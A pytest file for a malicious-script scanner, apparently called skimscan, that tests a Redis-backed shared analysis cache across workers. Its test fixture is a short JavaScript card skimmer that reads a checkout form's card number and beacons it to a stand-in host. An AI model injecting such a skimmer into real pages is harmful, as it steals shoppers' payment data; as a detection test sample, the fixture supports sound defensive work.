"""The fleet's shared analysis cache on a real Redis: a script one worker analysed is not
analysed again by another (each with its own memory and no disk cache, as on two machines);
workers of another skimscan version (another salt) do not see it; damaged entries and a Redis
that is away are misses, never errors."""

from __future__ import annotations

import hashlib

import pytest

from skimscan.fleet.cache import PREFIX, RedisSharedCache
from skimscan.models import Verdict
from skimscan.pipeline import Engine, EngineOptions, analyze_source
from tests.fleet.servers import RedisServer, free_port

pytestmark = pytest.mark.services

SKIMMER = """
document.querySelector('#checkout').addEventListener('submit', function () {
  var n = document.querySelector('input[name="cc_number"]').value;
  navigator.sendBeacon('https://cdn-metrics-paygate.top/c', n);
});
"""


def _engine(url: str) -> Engine:
    return Engine(EngineOptions(use_disk_cache=False, jobs=1,
                                shared_cache=RedisSharedCache(url)))


def test_a_second_worker_reuses_the_first_ones_analysis(redis_server: RedisServer) -> None:
    code = SKIMMER + f"// {redis_server.port}-reuse\n"
    first, second = _engine(redis_server.url), _engine(redis_server.url)
    one = analyze_source(code, engine=first)
    assert first.cache.misses == 1 and first.seconds  # analysed here
    two = analyze_source(code, engine=second)
    assert second.cache.hits == 1 and second.cache.misses == 0
    assert not second.seconds  # nothing analysed on the second worker
    assert one.verdict is two.verdict is Verdict.MALICIOUS
    assert [f.rule for f in one.findings] == [f.rule for f in two.findings]


def test_damaged_entries_are_misses(redis_server: RedisServer) -> None:
    import redis

    code = SKIMMER + f"// {redis_server.port}-damaged\n"
    first = _engine(redis_server.url)
    analyze_source(code, engine=first)
    client = redis.Redis.from_url(redis_server.url)
    key = PREFIX + first.cache._key(hashlib.sha256(code.encode()).hexdigest())
    assert client.exists(key)
    keys = [key]
    client.set(keys[0], b"not zlib")
    second = _engine(redis_server.url)
    report = analyze_source(code, engine=second)
    assert second.cache.misses == 1 and report.verdict is Verdict.MALICIOUS


def test_a_redis_that_is_away_only_costs_speed() -> None:
    engine = _engine(f"redis://127.0.0.1:{free_port()}/0")  # nothing listens there
    report = analyze_source(SKIMMER, engine=engine)
    assert report.verdict is Verdict.MALICIOUS and engine.cache.misses == 1
